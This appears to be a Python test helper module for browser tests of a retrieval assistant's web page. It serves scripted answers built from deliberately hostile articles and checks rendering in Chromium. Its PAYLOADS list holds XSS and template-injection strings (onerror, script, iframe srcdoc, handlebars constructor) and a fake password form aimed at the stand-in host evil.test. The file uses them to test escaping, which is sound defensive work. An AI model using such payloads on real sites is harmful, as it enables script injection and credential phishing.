"""What tests of the page share: a scripted assistant with hostile articles, the page served over it, and a browser."""

import os
import re
import threading
import time
from contextlib import contextmanager
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")

from index.candidates import Names
from index.errors import FootnoteError
from index.ledger import Entry, Followed, Listing, Outcome, Place, Timeline
from index.records import Article, Hit, Overview, Passage, Section, article_id, digest
from index.sync import Report
from rag.answers import Answer, Citation, Refusal, Sentence
from rag.chain import checked

CHROMIUM = Path(os.environ.get("CHROMIUM", "/usr/bin/chromium"))
FLAGS = ("--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--no-first-run")  # fmt: skip
in_browser = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"NO BROWSER: {CHROMIUM} is missing, the page is NOT tested"),
]


def browser_test(function):
    """Marked as a test in the browser, and skipped loudly without one."""
    for mark in in_browser:
        function = mark(function)
    return function


# Articles ------------------------------------------------------------------------------------------------------------

RIVER = Article(
    article_id("/articles/river.md"), "/articles/river.md", "The river archive",
    "We kept every reading.\nThe flood\nThe river stood at 4.12 metres on 3 February 2024. The cellar was full.\n"
    + "The committee met and talked about the weather, as it did each month of that long year.\n" * 60
    + "The council voted for a radar gauge. It cost 38,000 euros.",
    "Ilse Brandt", date(2024, 3, 12), "byline", sections=(Section(23, 33, "The flood"),),
)  # fmt: skip
RADAR = Article(article_id("/articles/radar.md"), "/articles/radar.md", "Radar gauge in service",
                "The radar gauge has sent readings since September 2024.")  # fmt: skip
PAYLOADS = (
    "<img src=x onerror=\"document.body.setAttribute('pwned','img')\">",
    "<script>document.body.setAttribute('pwned','script')</script>",
    "${document.body.setAttribute('pwned','template')}",
    "`+document.body.setAttribute('pwned','tick')+`",
    "{{#each value}}{{this}}{{/each}} {{constructor.constructor('document.body.id=1')()}}",
    "![a picture](http://evil.test/markdown.png)",
    "[a link](http://evil.test/link) [two][r] <http://evil.test/auto> http://evil.test/bare www.evil.test me@evil.test",
    '<form action="http://evil.test/"><input name="password"><button>Sign in</button></form>',
    '<div style="position:fixed;inset:0;background:url(http://evil.test/css.png)">overlay</div>',
    '<video src="http://evil.test/v.mp4" poster="http://evil.test/p.png"></video>',
    "<details open ontoggle=\"document.body.setAttribute('pwned','toggle')\"><svg onload=alert(1)></details>",
    "</p></div></article><h1>escaped</h1><!-- <style>#talk{display:none}</style>",
    "# heading ~~gone~~ **bold** _em_ `code` | a | b | $x^2$ \\(y\\) &lt;b&gt; &amp; :smile: [^1] [ ] - * + 1. >",
    "<thinking>aloud</thinking> <a href='#cite-1-1'>[1]</a> <iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
)
HOSTILE = Article(article_id('/x/"><img src=y>.md'), '/x/"><img src=y>.md', PAYLOADS[0] + PAYLOADS[2] + PAYLOADS[5],
                  "\n".join(PAYLOADS), PAYLOADS[1] + PAYLOADS[4])  # fmt: skip


def hit(article, text):
    start, heading = article.text.index(text), "The flood" if article is RIVER else ""
    key = digest("passage", article.revision, f"{start}:{start + len(text)}")
    return Hit(
        Passage(key, article.id, article.revision, start, start + len(text), text, heading, None), article, 1.0, "dense"
    )


def cite(number, article, quote):
    h = hit(article, quote)
    start, end = h.passage.start, h.passage.end
    return Citation(number, h.passage.id, article.id, article.revision, start, end, quote, article.title,
                    article.source, article.author, article.published,
                    h.passage.heading, None)  # fmt: skip


FLOOD = "The river stood at 4.12 metres on 3 February 2024."
GAUGE = "The council voted for a radar gauge."
SERVICE = "The radar gauge has sent readings since September 2024."
SEARCHED = Overview(15, 63, date(2024, 1, 3), date(2024, 12, 12), 2, 4)


def quoted(question, *pairs):
    citations = tuple(cite(n, article, quote) for n, (article, quote) in enumerate(pairs, start=1))
    return Answer(question, question.text, tuple(Sentence(c.quote, (c.number,)) for c in citations), citations,
                  tuple(hit(article, quote) for article, quote in pairs), SEARCHED, "scripted", None,
                  {"find": 0.03, "rank": 0.05})  # fmt: skip


def refused(question, why, *hits):
    return Answer(question, question.text, (), (), hits, SEARCHED, "scripted", why, {"find": 0.02})


# Set by the test that saw an answer grow.
SEEN = threading.Event()
# Set by the test that saw what was searched.
READ = threading.Event()


class Scripted:
    """Answers by the first word of the question, after the chain's own check of it."""

    def __init__(self):
        self.asked = []
        self.articles = 15

    def overview(self):
        return Overview(self.articles, 63, date(2024, 1, 3), date(2024, 12, 12), 2, 4)

    def ask(self, question):
        self.asked.append(question)
        checked(question.text)
        word = re.match(r"\w*", question.text)[0].lower()
        if word == "river":
            return quoted(question, (RIVER, FLOOD), (RIVER, GAUGE))
        if word == "leaning":
            whole = quoted(question, (RIVER, FLOOD))
            return replace(whole, searched_for=" ".join([*question.earlier, question.text]))
        if word == "further":
            whole = quoted(question, (RIVER, FLOOD))
            return replace(whole, hits=(*whole.hits, hit(RADAR, SERVICE)))
        if word == "radar":
            return quoted(question, (RADAR, SERVICE))
        if word == "mayor":
            return refused(question, Refusal.NOT_SUPPORTED, hit(RADAR, SERVICE), hit(RIVER, GAUGE))
        if word == "broken":
            raise FootnoteError("The index is damaged.", "Run: python -m index check")
        if word == "bug":
            raise RuntimeError("a secret path /home/me")
        return quoted(question, *((HOSTILE, payload) for payload in PAYLOADS))

    def stream(self, question):
        whole = self.ask(question)
        if question.text.startswith("River, read slowly"):
            yield replace(whole, sentences=(), citations=(), done=False)
            READ.wait(20)
        if question.text.startswith("River, slowly"):
            begun = replace(whole, sentences=whole.sentences[:1], citations=whole.citations[:1], done=False)
            yield replace(begun, pending="And the <b>gauge")
            SEEN.wait(20)
        yield whole


class Syncing:
    """A sync that waits in the middle of embedding until it is let go."""

    def __init__(self, assistant, store):
        self.assistant, self.store, self.go = assistant, store, threading.Event()

    def sync(self, progress):
        progress("embedding", 120, 340)
        assert self.go.wait(20)
        progress("embedding", 340, 340)
        self.assistant.articles = 18
        reason = "no text layer <img src=x onerror=\"document.body.id='pwned'\">"
        unread = [Outcome("/articles/scan.pdf", "", "skipped", reason)]
        return Report(new=3, changed=1, same=12, skipped=1, unread=unread)


class Shelved:
    """A ledger of 63 sources: 60 articles named by number, two that failed, and one whose every word is hostile."""

    def __init__(self):
        def entry(source, state, title, reason="", author=None):
            return Entry(source, state, reason, "", "", "", title, author, None, None, None, None, "en", None, 90, 0)

        self.entries = [
            entry("/articles/torn.pdf", "failed", "", "damaged PDF"),
            entry("/articles/gone.html", "failed", "", "HTTP 500"),
            entry(HOSTILE.source, "indexed", HOSTILE.title, author=HOSTILE.author),
            *(entry(f"/articles/{n:02}.md", "indexed", f"Article {n:02}") for n in range(60)),
        ]

    def places(self):
        return [
            Place(Followed(place), 60, 3, "2026-11-28T10:00:00+00:00", PAYLOADS[0])
            for place in ("/articles", *PAYLOADS)
        ]

    def timeline(self):
        return Timeline((("2023-11", 20), ("2024-02", 41)), 2)

    def listing(self, state, like, limit, offset, period):
        if like == "broken":
            raise FootnoteError("The index is damaged.", "Run: python -m index check")
        alike = [e for e in self.entries if like in e.title or like in e.reason]
        states = {name: sum(e.state == name for e in alike) for name in ("indexed", "skipped", "failed")}
        chosen = [e for e in alike if state in ("", e.state)][offset : offset + limit]
        return Listing(tuple(chosen), states, ("/articles", *PAYLOADS))

    def names(self):
        return Names(PAYLOADS, ("Ilse Brandt", *PAYLOADS))

    def article(self, article):
        return HOSTILE if article == HOSTILE.id else None


class Unmarked:
    """Evals in which nothing was marked, and which do nothing else."""

    def are_marked(self, answers):
        return [False] * len(answers)

    def __getattr__(self, name):
        def refuse(*_):
            raise FootnoteError("Nothing is measured here.", "Open the page of a store.")

        return refuse


# The server and the browser ------------------------------------------------------------------------------------------


@contextmanager
def serving(served):
    """The app over loopback on a free port, which it gives, until the end of the block."""
    import uvicorn

    server = uvicorn.Server(
        uvicorn.Config(served, host="127.0.0.1", port=0, log_level="warning", timeout_graceful_shutdown=1)
    )
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.02)
    try:
        yield server.servers[0].sockets[0].getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(20)
    assert not thread.is_alive()


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=list(FLAGS))
        yield browser
        browser.close()


@contextmanager
def visiting(chromium, site, width=1400, height=900, **options):
    """A fresh page; what it asks of other hosts is recorded in `page.outside` and goes nowhere."""
    context = chromium.new_context(viewport={"width": width, "height": height}, **options)
    context.set_default_timeout(10_000)
    page = context.new_page()
    page.outside, page.faults = [], []
    page.on("request", lambda r: None if r.url.startswith((site.url, "data:", "blob:")) else page.outside.append(r.url))
    page.on("pageerror", lambda error: page.faults.append(str(error)))
    context.route(re.compile(r"evil\.test"), lambda route: route.abort())
    page.goto(site.url)
    page.wait_for_selector(".welcome")
    yield page
    context.close()


@pytest.fixture
def page(chromium, site):
    """A fresh page of the module's own `site`, in which no script may fail."""
    with visiting(chromium, site) as page:
        yield page
        assert page.faults == []


@pytest.fixture
def phone(chromium, site):
    with visiting(chromium, site, 390, 844, has_touch=True, is_mobile=True) as page:
        yield page


def ask(page, question):
    turns = page.locator("[data-testid=bot]").count()
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    reply = page.locator("[data-testid=bot]").nth(turns)
    reply.locator(".answer, .trouble").wait_for()
    return reply


def articles(page):
    page.click("#rooms a[href='#room-articles']")
    page.locator("#listing .sources").wait_for()


def read(page, article):
    page.click(f"#listing a[href='#read-{article}']")
    page.wait_for_selector(f"#reader[data-place='read-{article}']")
    return f"read-{article}"


def follow(page, name):
    page.locator(f"#chat a[href='#{name}']").first.click()
    page.wait_for_selector(f"#reader[data-place='{name}']")


def lit(page, shade="active"):
    return page.locator(f"#reader mark.{shade}").all_text_contents()


def in_view(page, selector):
    page.wait_for_timeout(350)
    return page.evaluate(
        """selector => { const r = document.querySelector(selector).getBoundingClientRect();
        const b = document.querySelector("#source").getBoundingClientRect();
        return r.top >= Math.max(0, b.top) && r.bottom <= Math.min(innerHeight, b.bottom)
            && r.left >= b.left && r.right <= b.right; }""",
        selector,
    )
